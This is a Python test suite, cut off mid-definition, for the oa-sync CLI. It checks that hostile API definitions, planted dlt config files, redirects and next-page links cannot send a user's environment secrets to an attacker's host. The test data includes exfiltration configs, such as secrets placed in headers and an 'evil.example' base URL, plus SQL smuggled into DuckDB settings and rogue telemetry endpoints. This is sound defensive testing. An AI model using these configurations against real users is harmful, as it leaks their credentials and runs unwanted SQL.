"""Attacks by whoever wrote a definition, or the folder that is worked in: what they may make a sync send, and where to.

Real servers on loopback keep every byte that arrives. `theirs` belongs to the attacker, `ours` is the API of the user.
"""

from __future__ import annotations

import json
import os
import pty
import socket
import socketserver
import subprocess
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path
from threading import Thread
from typing import Any

import click
import pytest
from click.testing import CliRunner, Result

from oa_sync.cli import cli, printing
from oa_sync.commands.check import run_checks
from oa_sync.commands.plan import plan
from oa_sync.commands.sync import sync
from oa_sync.errors import ConfigurationError, OaSyncError
from oa_sync.process_wide import hide
from oa_sync.settings import resolve
from tests.support.command import OA_SYNC
from tests.support.recording import Recorder, recording

KEY = "oa_test_the_users_key"
STOLEN, TOKEN, HOOK = "aws-s3cret-0123", "shop-t0ken-4567", "whsec-89ab-cdef"
THEIRS: Mapping[str, str] = {
    "OPENANALYST_API_KEY": KEY,
    "AWS_SECRET": STOLEN,
    "SHOP_TOKEN": TOKEN,
    "OPENANALYST_WEBHOOK_SECRET": HOOK,
}
"""What is in the environment, and must not get anywhere by itself."""
LIST = "{name: items, primary_key: id, endpoint: {path: items, data_selector: data}}"


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder that is worked in; the user's own home is empty."""
    for name in list(os.environ):
        if name.startswith(("OA_SYNC", "OPENANALYST", "PG")):
            monkeypatch.delenv(name)
    for name, value in THEIRS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("HOME", str(tmp_path / "user"))
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "user" / "data"))
    work = tmp_path / "work"
    (work / ".dlt").mkdir(parents=True)
    monkeypatch.chdir(work)
    return work


@pytest.fixture
def theirs() -> Iterator[Recorder]:
    with recording() as server:
        yield server


@pytest.fixture
def ours() -> Iterator[Recorder]:
    with recording() as server:
        yield server


def run(*arguments: str) -> Result:
    return CliRunner().invoke(cli, arguments)


def refusal(*arguments: str) -> str:
    """What `oa-sync` says that refuses with exit 2."""
    done = run(*arguments)
    assert isinstance(done.exception, ConfigurationError), (done.output, done.exception)
    return str(done.exception)


def synced(*grants: str, source: str | None = "shop.yaml", **flags: Any) -> None:
    """A sync; an error of it is raised."""
    given = {"source": source, "allow_env": grants or None, "rpm": 0, "rpd": 0, **flags}
    report = sync(resolve(given))
    if report.error is not None:
        raise report.error


def written(text: str, name: str = "shop.yaml") -> Path:
    path = Path(name)
    path.write_text(f"name: shop\n{text}\n", encoding="utf-8")
    return path


def asks(server: Recorder, *, client: str = "", resource: str = LIST, more: str = "") -> Path:
    """A definition of the API at `server`."""
    return written(f"client: {{base_url: '{server.url}'{client}}}\nresources: [{resource}]\n{more}")


class Called(socketserver.BaseRequestHandler):
    """Counts who calls, and hangs up."""

    def handle(self) -> None:
        self.server.calls += 1  # type: ignore[attr-defined]


@contextmanager
def listening() -> Iterator[socketserver.TCPServer]:
    """A port that hangs up on whoever calls, and counts that in `calls`."""
    with socketserver.TCPServer(("127.0.0.1", 0), Called) as server:
        server.calls = 0  # type: ignore[attr-defined]
        Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True).start()
        yield server
        server.shutdown()


def calls(server: socketserver.TCPServer) -> int:
    """How many called."""
    return int(server.calls)  # type: ignore[attr-defined]


def nothing_arrived(*servers: Recorder) -> bool:
    return not any(server.heard for server in servers)


# -- what a file reads of the environment ---------------------------------------------------------------

PLACES: dict[str, Callable[[Recorder], object]] = {
    "header": lambda at: asks(at, client=", headers: {X-Debug: '${AWS_SECRET}'}"),
    "bearer": lambda at: asks(at, client=", auth: {token: '${AWS_SECRET}'}"),
    "key in a header": lambda at: asks(
        at, client=", auth: {type: api_key, name: X-Key, api_key: '${AWS_SECRET}'}"
    ),
    "key in the query": lambda at: asks(
        at, client=", auth: {type: api_key, name: k, api_key: '${AWS_SECRET}', location: query}"
    ),
    "user of basic": lambda at: asks(
        at,
        client=", auth: {type: http_basic, username: '${AWS_SECRET}', password: '${AWS_SECRET}'}",
    ),
    "path": lambda at: asks(at, resource="{name: items, endpoint: {path: 'p/${AWS_SECRET}'}}"),
    "parameter": lambda at: asks(
        at, resource="{name: items, endpoint: {path: p, params: {t: 'x${AWS_SECRET}'}}}"
    ),
    "parameter in a list": lambda at: asks(
        at, resource="{name: items, endpoint: {path: p, params: {t: [a, '${AWS_SECRET}']}}}"
    ),
    "body": lambda at: asks(
        at,
        resource="{name: items, endpoint: {path: p, method: POST, json: {a: [{b: '${AWS_SECRET}'}]}}}",
    ),
    "detail": lambda at: asks(
        at,
        resource="{name: items, primary_key: id, endpoint: p, detail: {path: 'p/{id}/${AWS_SECRET}'}}",
    ),
    "name of a parameter of pages": lambda at: asks(
        at,
        client=", paginator: {type: cursor, cursor_path: next, cursor_param: '${AWS_SECRET}'}",
    ),
    "defaults": lambda at: asks(
        at, more="resource_defaults: {endpoint: {params: {t: '${AWS_SECRET}'}}}"
    ),
    "children": lambda at: asks(
        at,
        resource="{name: items, primary_key: id, endpoint: p,"
        " children: {'${AWS_SECRET}': {table: x}, lines: {table: 'l', parent_key: '${AWS_SECRET}'}}}",
    ),
    "query": lambda at: asks(
        at, more="queries: [{name: q, dataset_id: d, sql: \"SELECT '${AWS_SECRET}'\"}]"
    ),
    "path of the base URL": lambda at: written(
        f"client: {{base_url: '{at.url}/${{AWS_SECRET}}'}}\nresources: [{LIST}]"
    ),
    "an anchor": lambda at: asks(
        at, client=", headers: {X-A: &a '${AWS_SECRET}', X-B: *a}", more=""
    ),
    "the key by its name": lambda at: asks(
        at, client=", headers: {X-A: 'a${OPENANALYST_API_KEY}'}"
    ),
}


@pytest.mark.parametrize("place", PLACES)
def test_no_place_of_a_definition_gets_a_variable_that_was_not_granted(
    place: str, theirs: Recorder, ours: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    PLACES[place](theirs)
    monkeypatch.setenv("OPENANALYST_BASE_URL", ours.url)
    settings = resolve({"source": "shop.yaml", "allow_env": ("SHOP_TOKEN", "OTHER")})
    name = "OPENANALYST_API_KEY" if "key by its name" in place else "AWS_SECRET"
    for attack in (sync, plan):
        with pytest.raises(ConfigurationError) as refused:
            attack(settings)
        assert name in str(refused.value)
        assert theirs.host in str(refused.value)
        assert f"--env {name}" in str(refused.value)
    report = run_checks(settings)
    assert (report.exit_code, report.requests) == (2, 0)
    assert nothing_arrived(theirs, ours)
    assert STOLEN not in str(refused.value) + json.dumps(report.as_json())


@pytest.mark.parametrize(
    "arguments",
    [
        ("status",),
        ("query", "ds_1", "SELECT 1", "--table", "t"),
        ("download", "ds_1", "--table", "t"),
        ("runs", "start", "--agent", "a", "--task", "t"),
        ("webhook", "register", "https://hooks.example.com/x"),
        ("webhook", "list"),
        ("webhook", "delete", "w"),
        ("resources",),
        ("runs", "list"),
    ],
    ids=" ".join,
)
def test_no_command_sends_what_was_not_granted(
    arguments: tuple[str, ...], theirs: Recorder, ours: Recorder
) -> None:
    PLACES["header"](theirs)
    done = run(*arguments, "--source", "shop.yaml", "--dialect", "cursor")
    if arguments[0] in ("status", "resources") or arguments == ("runs", "list"):
        assert STOLEN not in done.output
    else:
        assert isinstance(done.exception, ConfigurationError), done.output
        assert "AWS_SECRET" in str(done.exception)
    assert nothing_arrived(theirs, ours)


def test_a_variable_in_the_name_of_the_host_is_neither_looked_up_nor_shown() -> None:
    os.environ["AWS_SECRET"] = "AWS-S3CRET-0123"
    written(f"client: {{base_url: 'https://${{AWS_SECRET}}.evil.example'}}\nresources: [{LIST}]")
    told = refusal("sync", "--source", "shop.yaml")
    assert "${AWS_SECRET}.evil.example" in told
    done = run("validate", "shop.yaml")
    assert "sends AWS_SECRET to ${AWS_SECRET}.evil.example" in done.stderr
    assert (
        STOLEN
        not in told + done.output + run("resources", "--source", "shop.yaml", "--json").output
    )


def test_what_was_granted_arrives_there_alone_whatever_the_base_url_of_the_settings(
    theirs: Recorder, ours: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    asks(theirs, client=", auth: {token: '${SHOP_TOKEN}'}")
    monkeypatch.setenv("OPENANALYST_BASE_URL", ours.url)
    monkeypatch.setenv("OA_SYNC_ALLOW_ENV", "SHOP_TOKEN, PATH")
    synced()
    assert theirs.got(TOKEN)
    assert not theirs.got(KEY)
    assert nothing_arrived(ours)
    assert "shop.yaml names" in refusal("sync", "--source", "shop.yaml", "--base-url", ours.url)
    assert nothing_arrived(ours)


def test_a_grant_holds_for_the_host_it_was_first_used_with(
    theirs: Recorder, ours: Recorder
) -> None:
    client = ", auth: {token: '${SHOP_TOKEN}'}"
    asks(ours, client=client)
    synced("SHOP_TOKEN")
    asks(theirs, client=client)
    with pytest.raises(ConfigurationError) as refused:
        synced("SHOP_TOKEN")
    assert f"SHOP_TOKEN was first sent to {ours.host}" in str(refused.value)
    assert f"--env SHOP_TOKEN@{theirs.host}" in str(refused.value)
    with pytest.raises(ConfigurationError, match="is granted for"):
        synced(f"SHOP_TOKEN@{ours.host}")
    assert nothing_arrived(theirs)
    synced(f"SHOP_TOKEN@{theirs.host}")
    assert theirs.got(TOKEN)
    with pytest.raises(ConfigurationError, match="was first sent to"):
        synced("SHOP_TOKEN")
    theirs.heard.clear()
    synced("SHOP_TOKEN@127.0.0.1")
    assert theirs.got(TOKEN), "a host without a port is all of its ports"


def test_a_file_of_grants_that_is_damaged_grants_nothing(theirs: Recorder, ours: Recorder) -> None:
    asks(ours, client=", auth: {token: '${SHOP_TOKEN}'}")
    synced("SHOP_TOKEN")
    (file,) = Path("../user").rglob("grants.json")
    assert file.stat().st_mode & 0o77 == 0
    file.write_text("{")
    asks(theirs, client=", auth: {token: '${SHOP_TOKEN}'}")
    with pytest.raises(ConfigurationError, match="is damaged"):
        synced("SHOP_TOKEN")
    assert nothing_arrived(theirs)


# -- the key of the settings ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "client: {{base_url: '{url}', auth: bearer}}\nresources: [{list}]",
        "extends: page\nclient: {{base_url: '{url}'}}",
        "extends: cursor\nclient: {{base_url: '{url}', auth: {{type: bearer, token: null}}}}",
        "extends: openanalyst\nclient: {{base_url: '{url}', headers: {{X-T: '${{SHOP_TOKEN}}'}}}}",
    ],
)
@pytest.mark.parametrize("grant", ["SHOP_TOKEN", "OPENANALYST_API_KEY"])
def test_the_key_of_the_settings_goes_to_their_host_only(
    text: str, grant: str, theirs: Recorder, ours: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    written(text.format(url=theirs.url, list=LIST))
    monkeypatch.setenv("OPENANALYST_BASE_URL", ours.url)
    with pytest.raises(ConfigurationError, match="OPENANALYST_API_KEY"):
        synced(grant, "SHOP_TOKEN")
    assert "OPENANALYST_API_KEY" in refusal("trust", "shop.yaml", "--yes")
    assert nothing_arrived(theirs, ours)
    monkeypatch.setenv("OPENANALYST_BASE_URL", f"{theirs.url}/v2")
    synced(grant, "SHOP_TOKEN")
    assert theirs.got(KEY), "the user says that the key is for that host"


def test_the_key_is_no_variable_that_goes_where_it_is_first_named(
    theirs: Recorder, ours: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    PLACES["the key by its name"](theirs)
    monkeypatch.setenv("OPENANALYST_BASE_URL", ours.url)
    with pytest.raises(ConfigurationError, match="OPENANALYST_API_KEY is for"):
        synced("OPENANALYST_API_KEY")
    assert nothing_arrived(theirs)
    synced(f"OPENANALYST_API_KEY@{theirs.host}")
    assert theirs.got(KEY)


def test_the_secret_of_callbacks_goes_to_the_host_of_the_settings_only(
    theirs: Recorder, ours: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    asks(theirs)
    monkeypatch.setenv("OPENANALYST_BASE_URL", ours.url)
    register = ("webhook", "register", "https://hooks.example.com/x", "--dialect", "cursor")
    assert "OPENANALYST_WEBHOOK_SECRET" in refusal(*register, "--source", "shop.yaml")
    assert nothing_arrived(theirs)
    ours.answer = lambda request: (
        201,
        {},
        {"id": "w1", "signing_key": HOOK, "config": {"clientSecret": HOOK}, "url": "u"},
    )
    done = run(*register, "--json")
    assert ours.got(HOOK)
    assert json.loads(done.stdout) == {"id": "w1", "config": {}, "url": "u"}
    ours.answer = lambda request: (200, {}, {"data": [{"id": "w1", "signing_key": HOOK}]})
    listed = run("webhook", "list", "--json", "--dialect", "cursor")
    assert json.loads(listed.stdout) == {"webhooks": [{"id": "w1"}]}


# -- trust ----------------------------------------------------------------------------------------------


def test_trust_shows_what_is_sent_where_and_holds_until_a_name_or_a_host_changes(
    theirs: Recorder, ours: Recorder
) -> None:
    client = ", headers: {X-T: '${SHOP_TOKEN}'}"
    asks(ours, client=client)
    assert "--yes" in refusal("trust", "shop.yaml")
    assert "oa-sync trust shop.yaml" in refusal("sync", "--source", "shop.yaml")
    done = run("trust", "shop.yaml", "--yes")
    assert f"shop.yaml sends SHOP_TOKEN to {ours.host}" in done.stdout
    synced()
    assert ours.got(TOKEN)
    Path("copy.yaml").write_text(Path("shop.yaml").read_text())
    with pytest.raises(ConfigurationError, match="SHOP_TOKEN"):
        synced(source="copy.yaml")
    asks(ours, client=", headers: {X-T: '${SHOP_TOKEN}', X-U: '${AWS_SECRET}'}")
    with pytest.raises(ConfigurationError, match="AWS_SECRET"):
        synced()
    asks(theirs, client=client)
    with pytest.raises(ConfigurationError, match="SHOP_TOKEN"):
        synced()
    assert nothing_arrived(theirs)
    assert not ours.got(STOLEN)


@pytest.mark.parametrize(("answer", "code"), [("y", 0), ("n", 130), ("", 130)])
def test_trust_asks_on_a_terminal_and_takes_no_answer_for_no(
    answer: str, code: int, ours: Recorder
) -> None:
    asks(ours, client=", headers: {X-T: '${SHOP_TOKEN}'}")
    terminal, inside = pty.openpty()
    os.write(terminal, f"{answer}\n".encode())
    command = [*OA_SYNC, "trust", "shop.yaml"]
    done = subprocess.run(command, stdin=inside, capture_output=True, text=True, check=False)
    for end in (terminal, inside):
        os.close(end)
    assert done.returncode == code, done.stderr
    assert f"sends SHOP_TOKEN to {ours.host}" in done.stdout
    assert bool(list(Path("../user").rglob("grants.json"))) is (code == 0)


def test_a_link_that_leads_to_another_file_takes_no_trust_along(
    theirs: Recorder, ours: Recorder
) -> None:
    client = ", headers: {X-T: '${SHOP_TOKEN}'}"
    asks(ours, client=client).rename("mine.yaml")
    asks(theirs, client=client).rename("evil.yaml")
    Path("shop.yaml").symlink_to("mine.yaml")
    assert run("trust", "shop.yaml", "--yes").exit_code == 0
    Path("shop.yaml").unlink()
    Path("shop.yaml").symlink_to("evil.yaml")
    with pytest.raises(ConfigurationError, match="SHOP_TOKEN"):
        synced()
    assert nothing_arrived(theirs)


# -- the folder that is worked in ------------------------------------------------------------------------


def configured(**values: str) -> None:
    """A `.dlt/config.toml` that came with the folder."""
    lines = [f'{name} = "{value}"' for name, value in values.items()]
    Path(".dlt/config.toml").write_text("\n".join(["[sources.openanalyst]", *lines, ""]))


def test_a_folder_cannot_name_the_host_of_the_key(theirs: Recorder, ours: Recorder) -> None:
    configured(base_url=theirs.url, dialect="page")
    for arguments in (("sync",), ("check",), ("plan",)):
        done = run(*arguments)
        assert done.exit_code == 2 or "trust" in str(done.exception)
    assert nothing_arrived(theirs)
    with pytest.raises(ConfigurationError, match="oa-sync trust"):
        synced(source=None)
    assert nothing_arrived(theirs)
    synced(source=None, base_url=theirs.url, dialect="page")
    assert theirs.got(KEY)
    theirs.heard.clear()
    synced(source=None)
    assert theirs.got(KEY), "once is enough"


def test_a_folder_that_is_trusted_may_name_that_host_and_no_other(
    theirs: Recorder, ours: Recorder
) -> None:
    configured(base_url=ours.url, dialect="page")
    assert f"sends OPENANALYST_API_KEY to {ours.host}" in run("trust", ".dlt", "--yes").stdout
    synced(source=None)
    assert ours.got(KEY)
    configured(base_url=theirs.url, dialect="page")
    with pytest.raises(ConfigurationError, match="oa-sync trust"):
        synced(source=None)
    assert nothing_arrived(theirs)


def test_a_folder_that_names_host_and_definition_gets_no_key_by_a_definition_of_that_host(
    theirs: Recorder,
) -> None:
    configured(base_url=theirs.url, dialect="page", source="shop.yaml")
    asks(theirs, client=", auth: bearer")
    for source in (None, "shop.yaml"):
        with pytest.raises(ConfigurationError, match="oa-sync trust"):
            synced(source=source)
    assert nothing_arrived(theirs)


def test_key_and_host_that_stand_in_one_folder_belong_together(ours: Recorder) -> None:
    configured(base_url=ours.url, dialect="page", api_key="oa_test_of_the_folder")
    os.environ.pop("OPENANALYST_API_KEY")
    synced(source=None)
    assert ours.got("oa_test_of_the_folder")


def test_a_folder_with_its_own_key_gets_no_secret_of_the_user(theirs: Recorder) -> None:
    configured(base_url=theirs.url, dialect="cursor", api_key="oa_test_of_the_folder")
    os.environ.pop("OPENANALYST_API_KEY")
    register = ("webhook", "register", "https://hooks.example.com/x")
    assert "trust" in refusal(*register)
    written(f"client: {{headers: {{X-T: '${{SHOP_TOKEN}}'}}}}\nresources: [{LIST}]")
    with pytest.raises(ConfigurationError, match="trust"):
        synced("SHOP_TOKEN")
    assert nothing_arrived(theirs)


def test_a_folder_cannot_choose_the_definition(theirs: Recorder) -> None:
    configured(source="shop.yaml")
    asks(theirs, resource="{name: items, endpoint: {path: x, method: POST, json: {a: 1}}}")
    with pytest.raises(ConfigurationError, match="names the definition"):
        synced(source=None)
    assert nothing_arrived(theirs)
    assert run("trust", ".dlt", "--yes").exit_code == 0
    synced(source=None)
    assert theirs.heard


def test_a_folder_cannot_grant(theirs: Recorder) -> None:
    asks(theirs, client=", headers: {X-T: '${SHOP_TOKEN}'}")
    configured(allow_env=f"SHOP_TOKEN,SHOP_TOKEN@{theirs.host}")
    with pytest.raises(ConfigurationError, match="SHOP_TOKEN"):
        synced()
    assert nothing_arrived(theirs)


def test_a_folder_cannot_bring_a_home_with_grants_in_it(theirs: Recorder, folder: Path) -> None:
    asks(theirs, client=", headers: {X-T: '${SHOP_TOKEN}'}")
    planted = {str(folder / "shop.yaml"): {theirs.host: ["SHOP_TOKEN"]}}
    Path("home").mkdir()
    Path("home/grants.json").write_text(json.dumps({"files": planted}))
    configured(home="home")
    with pytest.raises(ConfigurationError, match="SHOP_TOKEN"):
        synced()
    assert nothing_arrived(theirs)
    synced(home="home")
    assert theirs.got(TOKEN), "the user's own home counts: the grants in it are of this form"


def test_a_folder_cannot_choose_the_database_of_the_quota(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PGPASSWORD", STOLEN)
    configured(quota_url="postgresql://user@good.example/q?host=127.0.0.1&port=9")
    for command in ("sync", "status"):
        assert "oa-sync trust" in refusal(command)
    assert "counts the quota at 127.0.0.1:9" in run("trust", ".dlt", "--yes").stdout
    assert "oa-sync trust" not in refusal("status"), "now it is asked, and is not there"
    configured(quota_url="postgresql://user@127.0.0.1:9/q?hostaddr=127.0.0.2")
    assert "127.0.0.2:9 for the quota" in refusal("status")


def secret(*lines: str) -> None:
    """A `.dlt/secrets.toml` that came with the folder."""
    file = Path(".dlt/secrets.toml")
    file.touch(0o600)
    file.write_text("\n".join([*lines, ""]))


def test_a_link_to_the_key_of_another_folder_is_no_key_of_this_one(
    theirs: Recorder, tmp_path: Path
) -> None:
    os.environ.pop("OPENANALYST_API_KEY")
    other = tmp_path / "another" / "secrets.toml"
    other.parent.mkdir()
    other.touch(0o600)
    other.write_text(f'[sources.openanalyst]\napi_key = "{KEY}"\n')
    configured(base_url=theirs.url, dialect="page")
    Path(".dlt/secrets.toml").symlink_to("../../another/secrets.toml")
    for attack in (sync, plan):
        with pytest.raises(ConfigurationError, match="this key was never sent"):
            attack(resolve({}))
    assert run_checks(resolve({})).exit_code == 2
    assert nothing_arrived(theirs)


def test_a_mounted_key_is_of_the_folder_although_it_is_a_link_inside(ours: Recorder) -> None:
    os.environ.pop("OPENANALYST_API_KEY")
    configured(base_url=ours.url, dialect="page")
    mounted = Path(".dlt/..2026_11/secrets.toml")  # as Kubernetes lays out what it mounts
    mounted.parent.mkdir()
    mounted.touch(0o600)
    mounted.write_text('[sources.openanalyst]\napi_key = "oa_test_of_the_folder"\n')
    Path(".dlt/..data").symlink_to("..2026_11")
    Path(".dlt/secrets.toml").symlink_to("..data/secrets.toml")
    synced(source=None)
    assert ours.got("oa_test_of_the_folder")


ADDRESSES: Mapping[str, tuple[str, str]] = {
    "all but the password": ("postgresql://user@{}/d", "PGPASSWORD"),
    "pieces": ("", "DESTINATION__POSTGRES__CREDENTIALS__PASSWORD"),
}


@pytest.mark.parametrize("is_keys", [False, True], ids=["key of the user", "key of the folder"])
@pytest.mark.parametrize("address", ADDRESSES)
def test_a_folder_cannot_say_where_the_password_of_a_database_goes(
    address: str, is_keys: bool, ours: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    url, variable = ADDRESSES[address]
    monkeypatch.setenv(variable, STOLEN)
    own = {"api_key": "oa_test_of_the_folder"} if is_keys else {}
    configured(destination="postgres", **own)
    monkeypatch.setenv("OPENANALYST_BASE_URL", ours.url)
    with listening() as server:
        host, port = server.server_address[:2]
        if url:
            secret("[destination.postgres]", f'credentials = "{url.format(f"{host}:{port}")}"')
        else:
            secret(
                "[destination.postgres.credentials]",
                *(f'host = "{host}"', f"port = {port}", 'database = "d"', 'username = "u"'),
            )
        for command in ("status", "export", "sync"):
            said = refusal(command, *(["--to", "out"] if command == "export" else []))
            assert "oa-sync trust" in said
            assert f"{port}" in said
            assert STOLEN not in said
        assert run_checks(resolve({})).exit_code != 0
        assert calls(server) == 0
        told = run("trust", ".dlt", "--yes").stdout
        assert "says where rows go" in told
        assert f"{port}" in told
        # dlt reads its files once in a process.
        subprocess.run([*OA_SYNC, "status"], capture_output=True, check=False)
        assert calls(server), "once is enough"
        secret("[destination.postgres]", f'credentials = "postgresql://u@{host}:{port}/other"')
        assert "oa-sync trust" in refusal("status"), "it says something else now"


def test_a_folder_with_its_own_key_says_where_its_rows_go(
    ours: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("OPENANALYST_API_KEY")
    secret(
        *("[sources.openanalyst]", 'api_key = "oa_test_of_the_folder"', 'destination = "postgres"'),
        *("[destination.postgres]", 'credentials = "postgresql://u:password@127.0.0.1:9/d"'),
    )
    assert "oa-sync trust" not in str(run("status").exception)


def test_a_folder_with_its_own_key_gets_no_password_of_the_users_own_dlt_files(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.delenv("OPENANALYST_API_KEY")
    monkeypatch.setattr(os, "geteuid", lambda: 1000)  # root's files of dlt are elsewhere
    configured(destination="postgres", api_key="oa_test_of_the_folder")
    secret("[destination.postgres.credentials]", 'host = "127.0.0.1"')
    mine = tmp_path / "user" / "data" / "dlt" / "secrets.toml"
    mine.parent.mkdir(parents=True)
    mine.touch(0o600)
    mine.write_text(f'[destination.postgres.credentials]\npassword = "{STOLEN}"\n')
    assert "oa-sync trust" in refusal("status")


@pytest.mark.parametrize("destination", ["parquet", "iceberg"])
def test_a_folder_cannot_choose_the_bucket(destination: str, ours: Recorder) -> None:
    configured(destination=destination, bucket_url="s3://theirs/x", base_url=ours.url)
    secret("[destination.filesystem.credentials]", 'endpoint_url = "http://127.0.0.1:9"')
    said = refusal("status")
    assert "bucket_url theirs" in said
    assert "endpoint_url 127.0.0.1:9" in said


def test_a_folder_cannot_say_where_the_catalog_is(folder: Path) -> None:
    Path(".pyiceberg.yaml").write_text(
        "catalog: {oa_sync: {oauth2-server-uri: 'http://127.0.0.1:9'}}"
    )
    flags = ("--destination", "iceberg", "--bucket-url", str(folder / "lake"))
    assert ".pyiceberg.yaml" in refusal("status", *flags)


PLANTED: Mapping[str, str] = {
    "statements": 'destination.duckdb.credentials]\nstatements = ["{}"]',
    "pragma": 'destination.duckdb.credentials]\npragmas = ["threads = 1; {}"]',
    "setting": 'destination.duckdb.credentials.local_config]\n"threads = 1; {}; SET threads" = 1',
}
"""What dlt runs as SQL when it opens a DuckDB file, and reads from the files of a folder."""


@pytest.mark.parametrize("file", ["secrets.toml", "config.toml", "dev.secrets.toml"])
@pytest.mark.parametrize("place", PLANTED)
def test_a_folder_has_nothing_run_in_the_database(place: str, file: str, ours: Recorder) -> None:
    """SQL of DuckDB reads and writes every file that the user may."""
    Path(".dlt/.workspace").touch()  # dlt then reads the files of profiles too
    planted = Path(".dlt") / file
    planted.touch(0o600)
    planted.write_text("[" + PLANTED[place].format("COPY (SELECT 1) TO 'written'") + "\n")
    flags = ("--base-url", ours.url, "--dialect", "page", "--rpm", "0")
    # dlt reads its files once in a process.
    done = subprocess.run([*OA_SYNC, "sync", *flags], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert not Path("written").exists()


@pytest.mark.parametrize("file", ["config.toml", "secrets.toml"])
@pytest.mark.parametrize(
    "said",
    [
        'sentry_dsn = "http://k@{}/1"',
        'slack_incoming_hook = "http://{}/x"',
        'dlthub_dsn = "http://{}/x"',
        'dlthub_telemetry = true\ndlthub_telemetry_endpoint = "http://{}/x"\nlog_level = "DEBUG"',
    ],
)
def test_a_folder_has_nobody_told_of_what_a_sync_does(
    said: str, file: str, theirs: Recorder, ours: Recorder
) -> None:
    planted = Path(".dlt") / file
    planted.touch(0o600)
    planted.write_text(f"[runtime]\n{said.format(theirs.host)}\n")
    flags = ("--base-url", ours.url, "--dialect", "page", "--rpm", "0")
    done = subprocess.run([*OA_SYNC, "sync", *flags], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert "DEBUG" not in done.stderr
    assert nothing_arrived(theirs)


def test_a_folder_with_its_own_key_has_nothing_run_in_a_database_of_dlt(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Where no secret of the user goes along, there is still SQL that runs as the user."""
    for name in ("OPENANALYST_API_KEY", "AWS_SECRET"):
        monkeypatch.delenv(name)
    configured(destination="ducklake", api_key="oa_test_of_the_folder")
    secret("[destination.ducklake.credentials]", "statements = [\"COPY (SELECT 1) TO 'written'\"]")
    assert "oa-sync trust" in refusal("status")


def test_what_dlt_cannot_use_is_said_as_what_it_is(ours: Recorder) -> None:
    Path(".dlt/config.toml").write_text('[runtime]\nrequest_timeout = "long"\n')
    flags = ("--base-url", ours.url, "--dialect", "page")
    done = subprocess.run([*OA_SYNC, "sync", *flags], capture_output=True, text=True, check=False)
    assert done.returncode == 2, done.stderr
    assert "request_timeout" in done.stderr
    assert ".dlt" in done.stderr


def test_the_files_of_a_profile_of_dlt_are_of_the_folder_too(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("PGPASSWORD", STOLEN)
    Path(".dlt/.workspace").touch()
    configured(destination="postgres")
    with listening() as server:
        planted = Path(".dlt/dev.secrets.toml")
        planted.touch(0o600)
        port = server.server_address[1]
        planted.write_text(
            f'[destination.postgres]\ncredentials = "postgresql://u@127.0.0.1:{port}/d"\n'
        )
        done = subprocess.run([*OA_SYNC, "status"], capture_output=True, text=True, check=False)
        assert done.returncode == 2
        assert "oa-sync trust" in done.stderr
        assert calls(server) == 0


# -- ways out of the host --------------------------------------------------------------------------------


def test_no_redirect_and_no_next_link_takes_a_granted_secret_to_another_host(
    theirs: Recorder, ours: Recorder
) -> None:
    asks(
        ours,
        client=", headers: {X-T: '${SHOP_TOKEN}'}, paginator: {type: json_link, next_url_path: next}",
    )
    away = f"{theirs.url}/items"
    answers: list[tuple[int, Mapping[str, str], Any]] = [
        (302, {"Location": away}, {}),
        (200, {}, {"data": [{"id": 1}], "next": away}),
        (200, {}, {"data": [{"id": 1}], "next": f"//{theirs.host}/items"}),
    ]
    for answer in answers:
        ours.answer = lambda request, answer=answer: answer  # type: ignore[misc]
        with pytest.raises(OaSyncError):
            synced("SHOP_TOKEN")
    assert ours.got(TOKEN)
    assert nothing_arrived(theirs)


def test_a_server_that_echoes_what_it_was_sent_gets_it_into_no_message_and_no_log(
    ours: Recorder, capfd: pytest.CaptureFixture[str]
) -> None:
    odd = 't/0k n+"4567'
    os.environ["SHOP_TOKEN"] = odd
    asks(
        ours,
        client=", headers: {X-T: 'a ${SHOP_TOKEN}'}",
        resource="{name: items, endpoint: {path: p, params: {q: '${SHOP_TOKEN}'}}}",
    )
    ours.answer = lambda request: (422, {}, {"error": {"code": "BAD", "message": request[:300]}})
    done = run(
        *("sync", "--source", "shop.yaml", "--env", "SHOP_TOKEN", "--json", "-v"),
        *("--log-format", "json"),
    )
    assert "BAD" in done.stdout
    shown = done.output + capfd.readouterr().err
    for form in (odd, json.dumps(odd)[1:-1], "t%2F0k", "0k n", "0k%20n", "0k+n"):
        assert form not in shown
    for file in Path().rglob("*"):
        assert not file.is_file() or b"0k n" not in file.read_bytes()


@pytest.mark.parametrize(
    "answer",
    [
        (302, {"Location": f"https://{TOKEN}.example.com/x"}, {}),
        (200, {}, {TOKEN: [], "data": {TOKEN: 1}}),
        (200, {}, {"data": [{"id": 1}], "next": f"https://{TOKEN}.example.com/x"}),
    ],
)
def test_no_other_part_of_an_answer_gets_a_secret_into_a_message(
    answer: tuple[int, Mapping[str, str], Any], ours: Recorder
) -> None:
    asks(
        ours,
        client=", headers: {X-T: '${SHOP_TOKEN}'}, paginator: {type: json_link, next_url_path: next}",
    )
    ours.answer = lambda request: answer
    done = run(
        "sync", "--source", "shop.yaml", "--env", "SHOP_TOKEN", "--json", "--log-format=json"
    )
    assert json.loads(done.stdout)["status"] == "failed"
    assert TOKEN not in done.output


# -- what is sent to this machine and its network ---------------------------------------------------------

POSTED = "{name: items, primary_key: id, endpoint: {path: items, method: POST, json: {a: 1}}}"
QUERIES = "queries: [{name: q, dataset_id: d, sql: SELECT 1}]"
CHANGES: Mapping[str, tuple[str, ...]] = {
    "query": ("query", "ds_1", "SELECT 1", "--table", "t"),
    "download": ("download", "ds_1", "--table", "t"),
